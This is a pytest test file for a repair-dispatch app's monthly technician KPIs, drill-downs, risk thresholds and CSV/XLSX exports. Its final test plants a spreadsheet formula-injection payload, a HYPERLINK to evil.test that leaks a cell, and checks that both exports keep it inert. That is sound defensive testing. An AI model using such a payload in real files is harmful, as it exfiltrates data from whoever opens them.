"""The four KPIs on a hand-built month whose right answers are known by hand."""

from __future__ import annotations

import io
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from PIL import Image
from sqlalchemy import select

from core.accounts import Actor
from dispatch import customer, kpis
from dispatch.models import WorkOrder
from dispatch.moves import Position, transition
from dispatch.photos import HashIndex, LocalStore, PhotoSettings, add_photo
from tests.integration.test_sla import intake_at

TZ = ZoneInfo("Asia/Shanghai")
T0 = datetime(2026, 11, 10, 2, 0, tzinfo=UTC)
ADDRESS = (34.2100, 108.9500)
FAR = (34.3000, 108.9500)  # 10 km north


def jpeg(seed: int) -> bytes:
    img = Image.new("RGB", (320, 240), ((seed * 40) % 256, (seed * 90) % 256, (seed * 150) % 256))
    for x in range(0, 320, 16 + seed):
        for y in range(0, 240, 10 + seed):
            img.putpixel((x, y), (255, 255, 255))
    out = io.BytesIO()
    img.save(out, "JPEG")
    return out.getvalue()


class Month:
    """Walks orders of tech2 (South) through their month with a controlled clock."""

    def __init__(self, app, headers, network, db_session, tmp_path):
        self.app, self.headers, self.session = app, headers, db_session
        self.tech = network.techs[1]
        self.me = Actor(network.techs[1].user_id, "technician", technician_id=network.techs[1].id)
        self.clerk = Actor(network.manager.id, "manager")
        self.photos = PhotoSettings(LocalStore(tmp_path / "kpi-photos"), TZ, HashIndex())
        self.n = 0

    def new(self) -> int:
        self.n += 1
        return intake_at(self.app, self.headers, T0, phone=f"1390013{self.n:04d}", lat=ADDRESS[0], lon=ADDRESS[1])

    def step(self, oid: int, action: str, minutes: float, actor=None, **kw) -> None:
        order = self.session.get(WorkOrder, oid)
        transition(
            self.session,
            oid,
            action,
            actor or self.me,
            version=order.version,
            now=T0 + timedelta(minutes=minutes),
            **kw,
        )

    def visit(
        self, oid: int, done_at_minutes: float, *, where=ADDRESS, photo: int | None = None, first: bool = True
    ) -> None:
        if first:
            self.step(oid, "assign", 1, Actor(None, "dispatcher"), technician_id=self.tech.id)
            self.step(oid, "accept", 2)
            self.step(oid, "contact", 10)
        self.step(oid, "depart", done_at_minutes - 60)
        self.step(oid, "arrive", done_at_minutes - 45, position=Position(*where, 10.0))
        if photo is not None:
            add_photo(self.session, oid, jpeg(photo), self.me, self.photos, source="camera", device=(*where, 10.0))
        self.step(oid, "complete", done_at_minutes)

    def survey(self, oid: int, score: int) -> None:
        order = self.session.get(WorkOrder, oid)
        token = customer.issue_tracking_token(order)
        self.session.commit()
        customer.submit_survey(self.session, token, True, score, "", now=T0 + timedelta(days=2))


@pytest.fixture
def month(app, network, auth, db_session, tmp_path):
    m = Month(app, auth.token("dispatcher"), network, db_session, tmp_path)
    a = m.new()  # completed at 23 h 59 m, surveyed 5, everything by the book
    m.visit(a, 23 * 60 + 59, photo=1)
    m.survey(a, 5)
    b = m.new()  # completed at 24 h 01 m, otherwise by the book
    m.visit(b, 24 * 60 + 1, photo=2)
    c = m.new()  # cancelled by the customer: not counted at all
    order = db_session.get(WorkOrder, c)
    token = customer.issue_tracking_token(order)
    db_session.commit()
    customer.cancel_by_customer(db_session, token, "changed my mind", now=T0 + timedelta(minutes=5))
    d = m.new()  # returned as unqualified, then completed within 24 h
    m.visit(d, 120, photo=3)
    m.step(d, "return", 180, Actor(None, "dispatcher"), reason="still leaking")
    m.visit(d, 600, photo=4, first=False)
    e = m.new()  # still open, no callback
    m.step(e, "assign", 1, Actor(None, "dispatcher"), technician_id=m.tech.id)
    f = m.new()  # completed in time but checked in 10 km away (its job type asks no photo); callback score 3
    m.visit(f, 300, where=FAR)
    order = db_session.get(WorkOrder, f)
    customer.record_callback(db_session, f, m.clerk, version=order.version, reached=True, resolved=True, score=3,
                             now=T0 + timedelta(days=4))  # fmt: skip
    db_session.rollback()
    return {"a": a, "b": b, "c": c, "d": d, "e": e, "f": f, "tech": m.tech.id}


def test_the_four_kpis_of_a_hand_built_month(db_session, month):
    (row,) = kpis.monthly(db_session, "2026-11", "technician", TZ)
    assert row.key == month["tech"]
    assert row.orders == 5  # a, b, d, e, f — c was cancelled by the customer
    assert row.completed == 4  # a, b, d, f
    # a (23:59) and d count; not b (24:01), not e (open), not f: its proof failed authenticity.
    assert row.completion_24h_rate == 0.4
    assert (row.rated, row.satisfaction_rate, row.satisfaction_mean) == (2, 0.5, 4.0)  # a: 5, f: 3
    assert row.compliance_rate == 0.75  # a, b, f — d was returned
    assert row.authenticity_rate == 0.75  # f checked in 10 km away
    (everyone,) = kpis.monthly(db_session, "2026-11", "all", TZ)
    assert everyone.orders == 5
    assert kpis.monthly(db_session, "2026-10", "technician", TZ) == []
    db_session.rollback()


def texts(row: dict) -> list[str]:
    return [reason.text for reason in row["reasons"]]


def test_every_figure_traces_to_its_orders_and_reasons(db_session, month):
    rows = {
        r["order_id"]: r
        for r in kpis.drill_down(db_session, "2026-11", "completion_24h", TZ, technician_id=month["tech"])
    }
    assert set(rows) == {month[k] for k in "abdef"}
    assert rows[month["a"]]["passed"] and rows[month["d"]]["passed"]
    assert texts(rows[month["b"]]) == ["completed after 24.0 h"]
    assert texts(rows[month["e"]]) == ["not completed (assigned)"]
    assert texts(rows[month["f"]]) == ["proof not accepted"]
    compliance = {
        r["order_id"]: r for r in kpis.drill_down(db_session, "2026-11", "compliance", TZ, technician_id=month["tech"])
    }
    assert texts(compliance[month["d"]]) == ["returned as unqualified"]
    assert compliance[month["f"]]["passed"]
    authenticity = {r["order_id"]: r for r in kpis.drill_down(db_session, "2026-11", "authenticity", TZ)}
    assert texts(authenticity[month["f"]]) == ["checkin_far (fail)"]
    satisfaction = kpis.drill_down(db_session, "2026-11", "satisfaction", TZ)
    assert [(r["order_id"], r["score"], r["passed"]) for r in satisfaction] == [
        (month["a"], 5, True),
        (month["f"], 3, False),
    ]
    db_session.rollback()


def test_the_api_gives_the_same_numbers(client, auth, month, db_session):
    manager = auth.token("manager")
    body = client.get("/api/kpis?month=2026-11&by=technician", headers=manager).get_json()
    assert body["items"][0]["completion_24h_rate"] == 0.4 and body["items"][0]["orders"] == 5
    assert client.get("/api/kpis?month=2026-13&by=technician", headers=manager).status_code == 400
    assert client.get("/api/kpis?month=2026-11&by=team", headers=manager).status_code == 400
    assert client.get("/api/kpis?month=2026-11", headers=auth.token("tech1")).status_code == 403
    orders = client.get(
        f"/api/kpis/orders?month=2026-11&kpi=compliance&technician_id={month['tech']}", headers=manager
    ).get_json()
    assert {o["order_id"] for o in orders["items"] if not o["passed"]} == {month["d"]}
    csv = client.get("/api/kpis/export.csv?month=2026-11&by=technician", headers=manager)
    assert csv.status_code == 200 and csv.mimetype == "text/csv"
    assert "0.4" in csv.get_data(as_text=True).splitlines()[1]


def test_the_page_and_its_chart_data_show_the_api_numbers(client, auth, month):
    import json
    import re

    auth.login("manager")
    html = client.get("/kpis?month=2026-11").get_data(as_text=True)
    assert (
        "40.0 %" in html and "50.0 %" in html and "75.0 %" in html
    )  # completion, satisfaction/compliance, authenticity
    data = json.loads(re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', html, re.S).group(1))
    november = next(m for m in data["trend"] if m["month"] == "2026-11")
    assert (november["completion_24h_rate"], november["authenticity_rate"]) == (0.4, 0.75)
    drill = client.get(f"/kpis/orders?month=2026-11&kpi=compliance&technician_id={month['tech']}").get_data(
        as_text=True
    )
    assert "returned as unqualified" in drill
    xlsx = client.get("/api/kpis/export.xlsx?month=2026-11&by=technician")
    assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"


def test_the_month_picker_lists_the_months_with_orders_in_the_users_language(client, auth, month):
    import re

    auth.login("manager")
    html = client.get("/kpis?month=2026-11").get_data(as_text=True)
    picker = re.search(r'<select name="month".*?</select>', html, re.S).group(0)
    months = re.findall(r'<option value="(\d{4}-\d{2})"', picker)
    # From this month back to the first order's (November 2026), latest first.
    assert months[-1] == "2026-11" and months == sorted(months, reverse=True) and "2026-10" not in months
    assert '<option value="2026-11" selected>November 2026</option>' in picker
    assert 'type="month"' not in html  # Chromium words a month input in English whatever the page's language
    zh = client.get("/kpis?month=2026-11", headers={"Accept-Language": "zh-CN"}).get_data(as_text=True)
    assert '<option value="2026-11" selected>2026年11月</option>' in zh and "November" not in zh
    # A month without orders asked for by its address is still the one shown and picked.
    early = client.get("/kpis?month=2025-01").get_data(as_text=True)
    assert '<option value="2025-01" selected>January 2025</option>' in early


def test_the_technician_table_is_sorted_and_paged_by_the_server(client, auth, month):
    auth.login("manager")
    html = client.get("/kpis?month=2026-11&sort=satisfaction_rate&dir=desc").get_data(as_text=True)
    assert (
        'aria-sort="descending"><a class="sort" href="/kpis?month=2026-11&amp;sort=satisfaction_rate&amp;dir=asc'
        in html
    )
    assert '<a class="sort" href="/kpis?month=2026-11&amp;sort=composite&amp;dir=asc#technician-kpis">' in html
    assert "Tech 2" in html and "1 in all" in html
    for query, field in (("sort=name", "sort"), ("dir=up", "dir"), ("page=0", "page"), ("page=x", "page")):
        response = client.get(f"/kpis?month=2026-11&{query}")
        assert response.status_code == 400 and field in response.get_data(as_text=True), query


def test_a_closed_month_does_not_change_when_old_orders_do(client, auth, month, db_session):
    from datetime import UTC, datetime

    manager, admin = auth.token("manager"), auth.token("admin")
    live = client.get("/api/kpis?month=2026-11&by=technician", headers=manager).get_json()["items"][0]
    assert live["composite"] == round((0.4 * 0.4 + 0.3 * 0.5 + 0.15 * 0.75 + 0.15 * 0.75) / 1.0, 4)
    # Its repairs' 30 days may still run (the wall clock decides): closing it is confirmed.
    november = {"month": "2026-11", "confirm": True}
    assert client.post("/api/kpis/close", json=november, headers=manager).status_code == 201
    assert client.post("/api/kpis/close", json=november, headers=manager).status_code == 409
    # Later: an old order's survey arrives, and an admin changes the weights.
    e = db_session.get(WorkOrder, month["e"])
    e.status, e.completed_at = "completed", datetime(2026, 11, 10, 3, tzinfo=UTC)
    db_session.commit()
    assert client.post("/api/kpi-weights", json={"weights": {"completion_24h": 1}}, headers=admin).status_code == 201
    frozen = client.get("/api/kpis?month=2026-11&by=technician", headers=manager).get_json()["items"][0]
    assert frozen["closed"] and frozen["completion_24h_rate"] == 0.4 and frozen["composite"] == live["composite"]
    bad = client.post("/api/kpi-weights", json={"weights": {"speed": 1}}, headers=admin)
    assert bad.status_code == 400
    assert client.post("/api/kpi-weights", json={"weights": {"completion_24h": 1}}, headers=manager).status_code == 403


def test_the_page_flags_teams_at_risk(client, auth, month):
    auth.login("manager")
    html = client.get("/kpis?month=2026-11").get_data(as_text=True)
    assert "24-hour completion 40%, below 85%" in html and "Authenticity 75%, below 90%" in html
    assert "Returns 25%, above 10%" in html  # d was returned: 1 of 4 completed orders
    assert f"/kpis/orders?month=2026-11&amp;technician_id={month['tech']}&amp;kpi=authenticity" in html  # a risk sign
    assert f"/kpis/orders?month=2026-11&amp;kpi=compliance&amp;technician_id={month['tech']}" in html  # a cell
    # Everyone sees the thresholds; only an admin can change them.
    assert 'id="risk-completion_24h_rate" name="completion_24h_rate" value="85"' in html
    assert "Save thresholds" not in html and " disabled>" in html


def test_the_return_rate_counts_completed_orders_returned_as_unqualified(db_session, month):
    (row,) = kpis.monthly(db_session, "2026-11", "technician", TZ)
    assert row.return_rate == 0.25  # d of a, b, d, f
    db_session.rollback()


def test_risk_signs_follow_the_thresholds_given():
    figures = {"orders": 5, "completion_24h_rate": 0.8, "return_rate": 0.2, "satisfaction_rate": None}
    before = {"orders": 9, "completion_24h_rate": 0.95, "return_rate": 0.05}
    signs = kpis.risk_signs(figures, before)
    assert [(s.figure, s.kind) for s in signs] == [
        ("completion_24h_rate", "below"), ("return_rate", "above"),
        ("completion_24h_rate", "fell"), ("return_rate", "rose"),
    ]  # fmt: skip
    assert signs[3].value == 0.15
    lenient = {"completion_24h_rate": 0.5, "return_rate": 0.5, "change_points": 0.2}
    assert kpis.risk_signs(figures, before, lenient) == []
    assert kpis.risk_signs(figures, before, {"min_orders": 6}) == []  # too few orders to judge
    assert kpis.risk_threshold_errors({"return_rate": 1.5, "min_orders": 2.5, "speed": 1, "change_points": "x"}) == {
        "return_rate": "must be between 0 and 1", "min_orders": "must be a whole number",
        "speed": "unknown threshold; use " + ", ".join(kpis.RISK_DEFAULTS), "change_points": "must be a number",
    }  # fmt: skip


def test_an_admin_sets_the_risk_thresholds_and_the_watch_follows_them(app, client, auth, month):
    admin, manager, tech_token = auth.token("admin"), auth.token("manager"), auth.token("tech1")
    api = app.test_client()  # bearer calls, apart from the browser session below
    current = api.get("/api/kpi-risk-thresholds", headers=manager).get_json()
    assert current["version"] is None and current["thresholds"] == kpis.RISK_DEFAULTS

    watch = api.get("/api/kpis/risk-watch?month=2026-11", headers=manager).get_json()
    tech = next(i for i in watch["items"] if i["kind"] == "technician")
    assert tech["key"] == month["tech"] and tech["orders"] == 5
    assert [(r["figure"], r["kind"]) for r in tech["reasons"]] == [
        ("completion_24h_rate", "below"), ("satisfaction_rate", "below"), ("compliance_rate", "below"),
        ("authenticity_rate", "below"), ("return_rate", "above"),
    ]  # fmt: skip
    returns = tech["reasons"][-1]
    assert returns["text"] == "Returns 25%, above 10%"
    auth.login("manager")
    assert "returned as unqualified" in client.get(returns["url"]).get_data(as_text=True)  # the orders behind it
    assert {i["kind"] for i in watch["items"]} == {"outlet", "technician"}

    # Bad values: a 400 naming each field, and nothing stored.
    bad = api.post("/api/kpi-risk-thresholds", headers=admin,
                   json={"completion_24h_rate": 1.5, "change_points": 0, "min_orders": -1})  # fmt: skip
    assert bad.status_code == 400, bad.get_json()
    assert bad.get_json()["detail"]["json"] == {
        "completion_24h_rate": ["must be between 0 and 1"], "change_points": ["must be between 0.01 and 1"],
        "min_orders": ["must be between 0 and 10000"],
    }  # fmt: skip
    for body, field in (({"return_rate": "lots"}, "return_rate"), ({"speed": 1}, "speed"), ({}, "thresholds")):
        response = api.post("/api/kpi-risk-thresholds", json=body, headers=admin)
        assert response.status_code == 400 and field in response.get_json()["detail"]["json"], response.get_json()
    assert api.get("/api/kpi-risk-thresholds", headers=manager).get_json()["version"] is None
    assert api.post("/api/kpi-risk-thresholds", json={"return_rate": 0.5}, headers=manager).status_code == 403

    # A lenient admin: late completions only below 30 %, returns only above 50 %.
    saved = api.post("/api/kpi-risk-thresholds", json={"completion_24h_rate": 0.3, "return_rate": 0.5}, headers=admin)
    assert saved.status_code == 201, saved.get_json()
    assert saved.get_json()["version"] == 1
    assert saved.get_json()["thresholds"] == kpis.RISK_DEFAULTS | {"completion_24h_rate": 0.3, "return_rate": 0.5}
    watch = api.get("/api/kpis/risk-watch?month=2026-11", headers=manager).get_json()
    tech = next(i for i in watch["items"] if i["kind"] == "technician")
    assert watch["thresholds_version"] == 1
    assert {r["figure"] for r in tech["reasons"]} == {"satisfaction_rate", "compliance_rate", "authenticity_rate"}
    html = client.get("/kpis?month=2026-11").get_data(as_text=True)
    assert "24-hour completion 40%, below" not in html and 'name="completion_24h_rate" value="30"' in html

    # Teams with fewer than six orders are not judged: nobody is on the watch.
    assert api.post("/api/kpi-risk-thresholds", json={"min_orders": 6}, headers=admin).status_code == 201
    assert api.get("/api/kpis/risk-watch?month=2026-11", headers=manager).get_json()["items"] == []
    assert api.get("/api/kpi-risk-thresholds", headers=manager).get_json()["thresholds"]["completion_24h_rate"] == 0.3
    assert api.get("/api/kpis/risk-watch?month=2026-13", headers=manager).status_code == 400
    assert api.get("/api/kpis/risk-watch", headers=tech_token).status_code == 403


def test_the_admin_sees_the_threshold_form(client, auth, month):
    auth.login("admin")
    html = client.get("/kpis?month=2026-11").get_data(as_text=True)
    assert "Save thresholds" in html and 'name="min_orders" value="5"' in html


# --- repeat repairs -----------------------------------------------------------------------

S0 = datetime(2026, 9, 10, 2, 0, tzinfo=UTC)  # a September of repairs, apart from the November above


@pytest.fixture
def repeats(app, network, auth, db_session):
    """Five September repairs by tech2; which of them came back is known by hand."""
    headers = auth.token("dispatcher")
    tech2, tech1 = network.techs[1], network.techs[0]
    me = Actor(tech2.user_id, "technician", technician_id=tech2.id)

    def order(when: datetime, phone: str, product: str = "water_heater", **kw) -> int:
        return intake_at(
            app, headers, when, phone=phone, product_category=product, lat=ADDRESS[0], lon=ADDRESS[1], **kw
        )

    def move(oid: int, action: str, at: datetime, actor=None, **kw) -> None:
        version = db_session.get(WorkOrder, oid).version
        transition(db_session, oid, action, actor or me, version=version, now=at, **kw)

    def repair(when: datetime, phone: str) -> tuple[int, datetime]:
        """A repair by tech2, completed 5 hours after intake."""
        oid = order(when, phone)
        move(oid, "assign", when + timedelta(minutes=1), Actor(None, "dispatcher"), technician_id=tech2.id)
        for action, minutes in (("accept", 2), ("contact", 10), ("depart", 200)):
            move(oid, action, when + timedelta(minutes=minutes))
        move(oid, "arrive", when + timedelta(minutes=240), position=Position(*ADDRESS, 10.0))
        done = when + timedelta(hours=5)
        move(oid, "complete", done)
        return oid, done

    # p: the water heater came back 15 days after the repair (the new order went to tech1).
    p, p_done = repair(S0, "13900200001")
    p_again = order(p_done + timedelta(days=15), "13900200001")
    move(p_again, "assign", p_done + timedelta(days=15, minutes=1), Actor(None, "dispatcher"), technician_id=tech1.id)
    # q: the same product again exactly 30 days after completion — not "within 30 days".
    q, q_done = repair(S0 + timedelta(days=1), "13900200002")
    order(q_done + timedelta(days=30), "13900200002")
    # r: another product of the same customer 3 days later — not a repeat of this repair.
    r, r_done = repair(S0 + timedelta(days=2), "13900200003")
    order(r_done + timedelta(days=3), "13900200003", product="air_conditioner")
    # s: the same product came back after 2 days but the customer cancelled that order.
    s, s_done = repair(S0 + timedelta(days=3), "13900200004")
    s_again = order(s_done + timedelta(days=2), "13900200004")
    token = customer.issue_tracking_token(db_session.get(WorkOrder, s_again))
    db_session.commit()
    customer.cancel_by_customer(db_session, token, "fixed itself", now=s_done + timedelta(days=2, minutes=5))
    # t: came back 29 days 23 hours later, as an installation, then as a repair: the repair counts.
    t, t_done = repair(S0 + timedelta(days=4), "13900200005")
    order(t_done + timedelta(days=20), "13900200005", issue_category="installation")
    t_again = order(t_done + timedelta(days=29, hours=23), "13900200005")
    db_session.rollback()
    return {"p": p, "p_again": p_again, "q": q, "r": r, "s": s, "t": t, "t_again": t_again,
            "tech2": tech2.id, "tech1": tech1.id}  # fmt: skip


def test_a_repair_that_comes_back_within_30_days_counts_against_the_first_technician(db_session, repeats):
    rows = {r.key: r for r in kpis.monthly(db_session, "2026-09", "technician", TZ)}
    mine = rows[repeats["tech2"]]
    assert mine.repairs == 5  # p, q, r, s, t completed; p_again (September, tech1) is still open
    assert (
        mine.repeat_rate == 0.4
    )  # p (15 days) and t (29 days 23 h); not q (30 days), r (other product), s (cancelled)
    assert rows[repeats["tech1"]].repairs == 0 and rows[repeats["tech1"]].repeat_rate is None
    (everyone,) = kpis.monthly(db_session, "2026-09", "all", TZ)
    assert (everyone.repairs, everyone.repeat_rate) == (5, 0.4)
    db_session.rollback()


def test_the_repeat_drill_down_names_the_later_order(db_session, repeats):
    numbers = dict(db_session.execute(select(WorkOrder.id, WorkOrder.number)).all())
    rows = {
        r["order_id"]: r
        for r in kpis.drill_down(db_session, "2026-09", "repeat_repairs", TZ, technician_id=repeats["tech2"])
    }
    assert set(rows) == {repeats[k] for k in "pqrst"}
    assert {oid for oid, r in rows.items() if not r["passed"]} == {repeats["p"], repeats["t"]}
    assert texts(rows[repeats["p"]]) == [f"repaired again: {numbers[repeats['p_again']]}, 15 days after completion"]
    assert texts(rows[repeats["t"]]) == [f"repaired again: {numbers[repeats['t_again']]}, 29 days after completion"]
    assert texts(rows[repeats["q"]]) == []
    db_session.rollback()


def test_repeat_repairs_in_the_api_exports_page_and_risk_watch(app, client, auth, repeats):
    manager, admin = auth.token("manager"), auth.token("admin")
    api = app.test_client()
    items = api.get("/api/kpis?month=2026-09&by=technician", headers=manager).get_json()["items"]
    mine = next(i for i in items if i["key"] == repeats["tech2"])
    assert (mine["repairs"], mine["repeat_rate"]) == (5, 0.4)
    header, first = (
        api.get("/api/kpis/export.csv?month=2026-09&by=all", headers=manager).get_data(as_text=True).splitlines()[:2]
    )
    assert "repeat_rate" in header.split(",")
    assert first.split(",")[header.split(",").index("repeat_rate")] == "0.4"
    drill = api.get(
        f"/api/kpis/orders?month=2026-09&kpi=repeat_repairs&technician_id={repeats['tech2']}", headers=manager
    )
    assert drill.status_code == 200 and sum(not o["passed"] for o in drill.get_json()["items"]) == 2
    assert api.get("/api/kpis/orders?month=2026-09&kpi=repeats", headers=manager).status_code == 400

    watch = api.get("/api/kpis/risk-watch?month=2026-09", headers=manager).get_json()
    tech = next(i for i in watch["items"] if i["kind"] == "technician" and i["key"] == repeats["tech2"])
    sign = next(r for r in tech["reasons"] if r["figure"] == "repeat_rate")
    assert (sign["kind"], sign["text"]) == ("above", "Repeat repairs 40%, above 10%")
    assert "kpi=repeat_repairs" in sign["url"]
    auth.login("manager")
    assert "repaired again: " in client.get(sign["url"]).get_data(as_text=True)
    html = client.get("/kpis?month=2026-09").get_data(as_text=True)
    assert "Repeat repairs 40%, above 10%" in html and 'name="repeat_rate" value="10"' in html
    assert f"kpi=repeat_repairs&amp;technician_id={repeats['tech2']}" in html

    # The threshold is a new, versioned setting; older versions without it mean the default.
    bad = api.post("/api/kpi-risk-thresholds", json={"repeat_rate": 2}, headers=admin)
    assert bad.status_code == 400 and bad.get_json()["detail"]["json"] == {"repeat_rate": ["must be between 0 and 1"]}
    assert api.post("/api/kpi-risk-thresholds", json={"repeat_rate": 0.5}, headers=admin).status_code == 201
    watch = api.get("/api/kpis/risk-watch?month=2026-09", headers=manager).get_json()
    assert not any(r["figure"] == "repeat_rate" for i in watch["items"] for r in i["reasons"])


def test_thresholds_saved_before_repeat_repairs_existed_use_its_default(db_session, network):
    from dispatch.models import KpiRiskThresholds

    old = {k: v for k, v in kpis.RISK_DEFAULTS.items() if k != "repeat_rate"} | {"return_rate": 0.2}
    db_session.add(KpiRiskThresholds(version=1, thresholds=old, created_by_id=None))
    db_session.commit()
    version, thresholds = kpis.current_risk_thresholds(db_session)
    assert (version, thresholds["repeat_rate"], thresholds["return_rate"]) == (1, 0.1, 0.2)
    assert kpis.set_risk_thresholds(db_session, {"min_orders": 3}, actor_id=None).thresholds["repeat_rate"] == 0.1


def test_the_trend_equals_the_monthly_figures_of_the_api(client, auth, month, repeats):
    import json
    import re

    manager = auth.token("manager")
    # October closed (a snapshot) between open months: the trend mixes both.
    october = {"month": "2026-10", "confirm": True}  # its repairs' 30 days may still run
    assert client.post("/api/kpis/close", json=october, headers=manager).status_code == 201
    auth.login("manager")
    html = client.get("/kpis?month=2026-11").get_data(as_text=True)
    trend = json.loads(
        re.search(r'<script type="application/json" id="chart-data">(.*?)</script>', html, re.S).group(1)
    )
    # The picture's months are those of the last 12 with orders (no line over ten empty months).
    with_orders = [
        m
        for m in kpis.last_months("2026-11", 12)
        if client.get(f"/api/kpis?month={m}&by=all", headers=manager).get_json()["items"][0]["orders"]
    ]
    assert [m["month"] for m in trend["trend"]] == with_orders and "2026-05" not in with_orders
    for point in trend["trend"]:
        (api,) = client.get(f"/api/kpis?month={point['month']}&by=all", headers=manager).get_json()["items"]
        assert {k: api[k] for k in point if k != "month"} == {k: v for k, v in point.items() if k != "month"}
    by_month = {m["month"]: m for m in trend["trend"]}
    assert by_month["2026-09"]["orders"] == 7 and by_month["2026-11"]["completion_24h_rate"] == 0.4
    assert "2026-10" in by_month  # closed: from its snapshot


def test_the_pictures_show_the_drill_downs_failing_orders_and_the_days_of_the_month(client, auth, month):
    manager = auth.token("manager")
    pictures = client.get("/api/kpis/pictures?month=2026-11", headers=manager).get_json()
    (overall,) = client.get("/api/kpis?month=2026-11&by=all", headers=manager).get_json()["items"]
    # Day by day: every day of November, the month's orders on their intake day (Xi'an time).
    assert [d["day"] for d in pictures["daily"]] == [f"2026-11-{n:02d}" for n in range(1, 31)]
    assert sum(d["orders"] for d in pictures["daily"]) == overall["orders"] == 5
    (day,) = [d for d in pictures["daily"] if d["orders"]]
    assert day["day"] == "2026-11-10" and day["completion_24h_rate"] == overall["completion_24h_rate"] == 0.4
    # Why orders failed: per figure, the drill-down's failing orders counted by reason, worded.
    for kpi in kpis.KPIS:
        everything = client.get(f"/api/kpis/orders?month=2026-11&kpi={kpi}", headers=manager).get_json()["items"]
        failing = client.get(f"/api/kpis/orders?month=2026-11&kpi={kpi}&outcome=failed", headers=manager).get_json()
        assert [i["order_id"] for i in failing["items"]] == [i["order_id"] for i in everything if i["passed"] is False]
        counts: dict[str, int] = {}
        for item in failing["items"]:
            for code in dict.fromkeys(item["reason_codes"]):
                counts[code] = counts.get(code, 0) + 1
        shown = {g["reason"]: g["orders"] for g in pictures["reasons"] if g["kpi"] == kpi}
        assert shown == counts, kpi
    assert any(g["kpi"] == "compliance" and g["reason"] == "returned" for g in pictures["reasons"])
    assert all(g["text"] and g["text"] != g["reason"] for g in pictures["reasons"])
    # Bad input names its field.
    bad = client.get("/api/kpis/orders?month=2026-11&kpi=compliance&outcome=lost", headers=manager)
    assert bad.status_code == 400 and "outcome" in bad.get_json()["detail"]["query"]
    assert client.get("/api/kpis/pictures?month=2026-13", headers=manager).status_code == 400
    auth.login("manager")
    page = client.get("/kpis/orders?month=2026-11&kpi=compliance&outcome=lost")
    assert page.status_code == 400 and "outcome" in page.get_data(as_text=True)


HOSTILE_NAME = '=HYPERLINK("http://evil.test/leak?"&A2,"Click")'


def test_a_technician_named_like_a_formula_stays_inert_text_in_both_exports(client, auth, month, db_session):
    import csv as csv_module

    from openpyxl import load_workbook

    from technicians.models import Technician

    db_session.get(Technician, month["tech"]).name = HOSTILE_NAME
    db_session.commit()
    manager = auth.token("manager")

    text = client.get("/api/kpis/export.csv?month=2026-11&by=technician", headers=manager).get_data(as_text=True)
    rows = list(csv_module.reader(io.StringIO(text.lstrip("\ufeff"))))
    name = rows[0].index("name")
    assert rows[1][name] == "'" + HOSTILE_NAME
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)

    xlsx = client.get("/api/kpis/export.xlsx?month=2026-11&by=technician", headers=manager)
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    cell = sheet.cell(row=2, column=name + 1)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE_NAME
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
